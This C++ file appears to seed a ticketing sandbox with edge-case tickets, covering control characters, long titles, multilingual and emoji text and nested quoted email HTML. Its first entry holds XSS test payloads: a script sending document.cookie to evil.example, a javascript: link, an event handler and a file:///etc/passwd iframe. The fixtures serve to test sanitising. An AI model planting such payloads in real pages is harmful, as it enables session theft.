#include "seed/oddities.h"

namespace ticketeer::sandbox {

namespace {

constexpr Oddity all[] = {
    {u"Invoice attached, please open",
     u"<p>Dear customer, see "
     u"below.</p><script>document.location='http://evil.example/?c='+document.cookie</script>"
     u"<img src=\"http://tracker.example/pixel.gif?id=4711\" width=\"1\" height=\"1\">"
     u"<p onmouseover=\"alert('x')\">Your <a href=\"javascript:alert(1)\">invoice</a></p>"
     u"<iframe src=\"file:///etc/passwd\"></iframe>",
     nullptr},
    {u"Notes pasted\u000Bfrom a word processor\u000Blose their line breaks",
     u"<p>First line\u000Bsecond line\u000Bthird line, with a bell\u0007 and a form feed\u000C at the "
     u"end.</p>",
     nullptr},
    {u"Please read the whole story of what happened at booster station 7 on the night when the river rose, "
     u"the router "
     u"died, the gateway lost its clock, the pumps tripped one after the other and nobody could reach the "
     u"on-call "
     u"number because the phone list was last year's",
     nullptr, nullptr},
    {u"Größenänderung: Übergabepunkt \"Süd\" <alt> fehlt & Zähler läuft rückwärts",
     u"<p>Grüße aus Düsseldorf! Der Zähler zählt seit 3 Tagen <i>rückwärts</i>: 17,5 m³ → 12,1 m³.</p>"
     u"<ul><li>Gerät getauscht</li><li>Kabel geprüft</li></ul>",
     nullptr},
    {u"Display shows \U0001F4A7 instead of the litre sign",
     u"<p>The new firmware prints a drop \U0001F4A7 where the unit should be. Funny \U0001F600, but not for "
     u"our auditor.</p>",
     nullptr},
    {u"ポンプが起動しません (pump does not start)",
     u"<p>お世話になっております。制御盤に E-217 と表示されます。</p>", nullptr},
    {u"RE: RE: FW: Alarm phone chain calls the wrong person",
     u"<div style=\"font-family:Calibri\"><p>See mail below.</p><blockquote><p>On Monday Ines "
     u"wrote:</p><blockquote><p>&gt; It "
     u"called the &quot;old&quot; number again</p></blockquote></blockquote></div>",
     u"<p>Hello,</p><p>the chain is corrected:</p><table "
     u"border=\"1\"><tr><th>Step</th><th>Who</th><th>After</th></tr>"
     u"<tr><td>1</td><td>Shift</td><td>0 min</td></tr><tr><td>2</td><td>On-call</td><td>10 "
     u"min</td></tr></table>"
     u"<p>Test call with <code>*77#</code>.</p>"},
    {u"   Title with blanks around it   ", nullptr, nullptr},
    {u"50% of readings _missing_ [Hall 3]", nullptr, nullptr},
    {u"اتصال البوابة مفقود في الموقع 4", u"<p>البوابة غير متصلة منذ الصباح (Gateway offline).</p>", nullptr},
};

} // namespace

std::span<const Oddity> oddities()
{
    return all;
}

} // namespace ticketeer::sandbox
